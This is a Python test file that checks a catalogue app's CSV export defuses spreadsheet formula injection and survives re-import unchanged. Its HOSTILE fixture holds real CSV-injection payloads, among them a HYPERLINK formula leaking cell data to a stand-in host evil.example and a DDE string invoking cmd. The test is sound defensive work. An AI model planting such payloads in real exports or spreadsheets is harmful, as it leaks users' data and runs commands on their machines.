"""Exports bound for a spreadsheet never carry a cell the spreadsheet would run as a formula
(OWASP, "CSV Injection"). Finding: the catalogue CSV export wrote cells beginning =, +, -, @
as they were."""

from __future__ import annotations

import csv
import io

from pathways.catalogue import FORMULA_START
from tests.conftest import local_item_form

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "provider": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cost": "-2+3",
    "notes": "+cmd",
    "duration": "\t=1+1",
}


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_catalogue_export_neutralises_formulas_and_imports_back_exactly(
    client, make_user, make_org, login
):
    make_user("ld@example.org", roles=("ld",), organisation_id=make_org())
    login("ld@example.org")
    response = client.post("/catalogue/new", data=local_item_form("hostile", **HOSTILE))
    assert response.status_code == 302, response.get_data(as_text=True)[-800:]
    for url in ("/catalogue.csv", "/catalogue.csv?only=ours"):
        export = client.get(url).get_data()
        rows = _rows(export)
        assert rows, url
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_START), (url, column, cell)
        ours = next(row for row in rows if row["id"] == "hostile")
        assert ours["title"] == "'" + HOSTILE["title"]
    # the export read back in changes nothing: the apostrophes come off again
    page_before = client.get("/catalogue.json").get_json()
    response = client.post(
        "/catalogue/import",
        data={"file": (io.BytesIO(client.get("/catalogue.csv?only=ours").get_data()), "ours.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.get_data(as_text=True)[-1500:]
    assert client.get("/catalogue.json").get_json() == page_before
    item = next(i for i in page_before if i["id"] == "hostile")
    assert item["title"] == HOSTILE["title"] and item["notes"] == HOSTILE["notes"]
